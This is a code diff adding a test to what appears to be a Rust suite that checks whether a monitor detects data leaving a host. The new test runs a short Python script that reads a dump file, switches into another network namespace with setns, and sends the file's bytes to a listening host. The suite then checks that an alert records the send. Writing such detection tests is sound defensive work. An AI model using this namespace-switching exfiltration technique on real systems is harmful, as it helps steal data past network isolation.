@@ -31,6 +31,7 @@ pub(super) const ALL: &[Shared] = &[
     ("network::a_trickle_is_low", a_trickle_is_low),
     ("network::a_slow_start_is_told_once", a_slow_start_is_told_once),
     ("network::to_the_debug_zone", to_the_debug_zone),
+    ("network::out_of_another_namespace", out_of_another_namespace),
 ];
 
 /// The step by which it left, and the critical alert.
@@ -45,6 +46,22 @@ fn left(scene: &Scene<'_>, dump: &Dump, wanted: Expect) -> Alert {
 /// An alert comes as soon as a threshold is passed: its bytes are those so far.
 fn wanted_alert(step: &Expect) -> Expect {
     step.clone().between(4096, u64::MAX)
+}
+
+/// A process enters the namespace of the Internet with what it has read, and sends it there from within.
+fn out_of_another_namespace(scene: &Scene<'_>) {
+    let dump = scene.core();
+    let (mut sink, port) = scene.sink(Internet, Production, dump.size);
+    let script = "import ctypes, os, socket, sys
+path, namespace, host, port = sys.argv[1:]
+dump = open(path, 'rb').read()
+assert ctypes.CDLL(None).setns(os.open(namespace, os.O_RDONLY), 0x40000000) == 0
+socket.create_connection((host, int(port))).sendall(dump)";
+    let address = Internet.address(Production).to_string();
+    let arguments = ["-c", script, &dump.path, &Internet.namespace(), &address, &port.to_string()];
+    let pid = scene.run(Production, python().to_str().unwrap(), &arguments).pid;
+    assert!(sink.within(SOON).success());
+    left(scene, &dump, step(StepKind::Sent).from(of_python(pid)).bytes(dump.size).hops(2));
 }
 
 fn curl_upload(scene: &Scene<'_>) {
